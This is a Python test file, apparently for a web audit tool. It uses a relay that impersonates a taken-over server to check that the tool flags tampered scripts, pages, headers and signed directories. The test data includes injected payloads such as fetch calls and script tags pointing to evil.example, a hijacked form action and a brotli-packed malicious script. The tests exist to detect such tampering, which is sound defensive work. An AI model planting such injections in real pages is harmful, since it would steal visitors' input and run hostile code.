"""The audit names what is different, and only that. A relay between it and the house plays the taken-over server."""

from __future__ import annotations

import contextlib
import json
from collections.abc import AsyncIterator, Callable
from pathlib import Path

import aiohttp
import brotli
import pytest
from aiohttp import web

from intake.cli.audit import Audit, read_release
from tests.house import House

ROOT_OF = "root_key"
Change = Callable[[str, bytes, dict[str, str]], tuple[int, bytes]]


@pytest.fixture(scope="module")
async def house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    """One house for all: the audit only reads."""
    async with House(tmp_path_factory.mktemp("audited") / "house") as running:
        yield running


def root_of(house: House) -> bytes:
    line = next(line for line in house.config.read_text("utf-8").splitlines() if line.startswith(ROOT_OF))
    return bytes.fromhex(line.split('"')[1])


@contextlib.asynccontextmanager
async def taken_over(house: House, change: Change) -> AsyncIterator[str]:
    """A server that hands everything on from the house, but for what `change` does to it."""

    async def relay(request: web.Request) -> web.Response:
        async with line.get(house.url + request.path, headers={"Accept-Encoding": "identity"}) as answer:
            headers = {
                name: value
                for name, value in answer.headers.items()
                if name.lower() not in {"content-length", "transfer-encoding", "date", "server"}
            }
            body = await answer.read()
            status = answer.status
        if status == 200:
            status, body = change(request.path, body, headers)
        response = web.Response(status=status, body=body, headers=headers)
        response.headers.pop("Server", None)
        return response

    async def nameless(_: web.Request, response: web.StreamResponse) -> None:
        response.headers.pop("Server", None)

    app = web.Application()
    app.router.add_get("/{path:.*}", relay)
    app.on_response_prepare.append(nameless)
    runner = web.AppRunner(app)
    async with aiohttp.ClientSession(auto_decompress=False) as line:
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        try:
            yield f"http://127.0.0.1:{runner.addresses[0][1]}"
        finally:
            await runner.cleanup()


async def differences(house: House, url: str, remember: Path | None = None) -> list[str]:
    audit = Audit(url, root_of(house), read_release(None), remember)
    await audit.everything()
    assert audit.looked_at["files"] > 5
    return audit.differences


async def test_an_honest_house_has_no_difference(house: House, tmp_path: Path) -> None:
    assert await differences(house, house.url, tmp_path / "memory") == []
    assert await differences(house, house.url, tmp_path / "memory") == []
    assert [file.name for file in (tmp_path / "memory").iterdir()] == ["00001.ekd"]


async def test_the_command_prints_and_ends_with_0_or_1(house: House, tmp_path: Path) -> None:
    words = ["audit", "--url", house.url, "--root", root_of(house).hex()]
    good = house.command(*words)
    assert good.stdout.startswith("No difference")
    release = dict(read_release(None))
    release["write.js"] = "0" * 64
    (tmp_path / "release.json").write_text(json.dumps(release))
    bad = house.command(*words, "--release", str(tmp_path / "release.json"), check=False)
    assert bad.returncode == 1
    assert "/s/write.js" in bad.stdout
    away = house.command("audit", "--url", "http://127.0.0.1:1", "--root", root_of(house).hex(), check=False)
    assert away.returncode == 2


def changed(path: str, old: bytes, new: bytes) -> Change:
    def change(asked: str, body: bytes, _: dict[str, str]) -> tuple[int, bytes]:
        if asked == path:
            assert old in body
            return 200, body.replace(old, new, 1)
        return 200, body

    return change


@pytest.mark.parametrize(
    ("path", "old", "new", "told"),
    [
        ("/s/write.js", b"", b"fetch('https://evil.example');", "/s/write.js: (plain) is not the released file"),
        ("/schreiben", b"</head>", b"<script>alert(1)</script></head>", "a script written into the page"),
        ("/", b"document.title", b"document.tit1e", "a script written into the page"),
        ("/", b"<style>", b"<style>*{background:url(/x)}", "a style written into the page"),
        ("/schreiben", b"</head>", b'<script src="/s/other.js"></script></head>', "not in the release: /s/other.js"),
        ("/schreiben", b"</head>", b'<script src="//evil.example/x.js"></script></head>', "leads to another server"),
        ("/schreiben", b"<h1", b'<h1 onclick="x()"', "a script in the attribute onclick"),
        ("/antworten", b'action="/antworten"', b'action="https://evil.example/"', "<form action> leads to another"),
        ("/", b"</main>", b'<iframe src="/x"></iframe></main>', "has a <iframe>"),
        ("/", b"</head>", b'<meta http-equiv="refresh" content="0;url=/x"></head>', "sends the visitor elsewhere"),
        ("/", b"data-root=\"", b"data-root=\"00", "names another root key"),
        ("/verzeichnis", b"EKD1", b"EKD2", "/verzeichnis: DirectoryForged"),
    ],
)  # fmt: skip
async def test_each_change_is_named(house: House, path: str, old: bytes, new: bytes, told: str) -> None:
    if b"data-root" in old:
        path = "/schreiben"
    async with taken_over(house, changed(path, old, new)) as url:
        found = await differences(house, url)
    assert any(told in one for one in found), found


@pytest.mark.parametrize("where", ["/schluessel/", "/anhang/", "/orte", "/verzeichnis/1"])
async def test_each_file_behind_the_directory_is_compared(house: House, where: str) -> None:
    def change(asked: str, body: bytes, _: dict[str, str]) -> tuple[int, bytes]:
        return 200, body + b"!" if asked.startswith(where) else body

    async with taken_over(house, change) as url:
        found = await differences(house, url)
    assert any(one.startswith(where.rstrip("/")) for one in found), found


@pytest.mark.parametrize(
    ("name", "value", "told"),
    [
        ("Content-Security-Policy", "default-src *", "header Content-Security-Policy"),
        ("Set-Cookie", "id=1", "set-cookie"),
        ("Referrer-Policy", "unsafe-url", "header Referrer-Policy"),
    ],
)
async def test_weaker_headers_are_named(house: House, name: str, value: str, told: str) -> None:
    def change(_: str, body: bytes, headers: dict[str, str]) -> tuple[int, bytes]:
        headers[name] = value
        return 200, body

    async with taken_over(house, change) as url:
        found = await differences(house, url)
    assert any(told in one for one in found), found


async def test_a_file_that_vanished_or_came_is_named(house: House) -> None:
    def change(asked: str, body: bytes, _: dict[str, str]) -> tuple[int, bytes]:
        if asked == "/s/release.json":
            listed = json.loads(body)
            listed["added.js"] = listed.pop("write.js")
            return 200, json.dumps(listed).encode()
        return (404, b"") if asked == "/s/answers.js" else (200, body)

    async with taken_over(house, change) as url:
        found = await differences(house, url)
    assert "/s/release.json: added.js is only in the manifest of the server" in found
    assert "/s/release.json: write.js is missing in the manifest of the server" in found
    assert any(one.startswith("/s/answers.js: ") and "404" in one for one in found)


async def test_a_rolled_back_directory_is_named(house: House, tmp_path: Path) -> None:
    memory = tmp_path / "memory"
    assert await differences(house, house.url, memory) == []
    (memory / "00002.ekd").write_bytes(b"a version that this server no longer shows")
    assert any("rolled back" in one for one in await differences(house, house.url, memory))


async def test_an_exchanged_past_is_named(house: House, tmp_path: Path) -> None:
    memory = tmp_path / "memory"
    memory.mkdir()
    (memory / "00001.ekd").write_bytes(b"another first version")
    assert any("is another file than the one remembered" in one for one in await differences(house, house.url, memory))


async def test_files_are_compared_as_packed_too(house: House) -> None:
    """A server could send the right plain file, which auditors ask for, and another packed one, which browsers do."""
    evil = brotli.compress(b"fetch('https://evil.example')")

    def change(asked: str, body: bytes, headers: dict[str, str]) -> tuple[int, bytes]:
        if asked == "/s/write.js":
            headers["Content-Encoding"] = "br"
            return 200, evil
        return 200, body

    async with taken_over(house, change) as url:
        found = await differences(house, url)
    assert any("/s/write.js: (packed) is not the released file" in one for one in found)


def test_a_broken_manifest_is_refused(tmp_path: Path) -> None:
    for text in ("[]", "{}", '{"a.js": "short"}', "no json"):
        (tmp_path / "release.json").write_text(text)
        with pytest.raises(ValueError, match=r"."):
            read_release(tmp_path / "release.json")
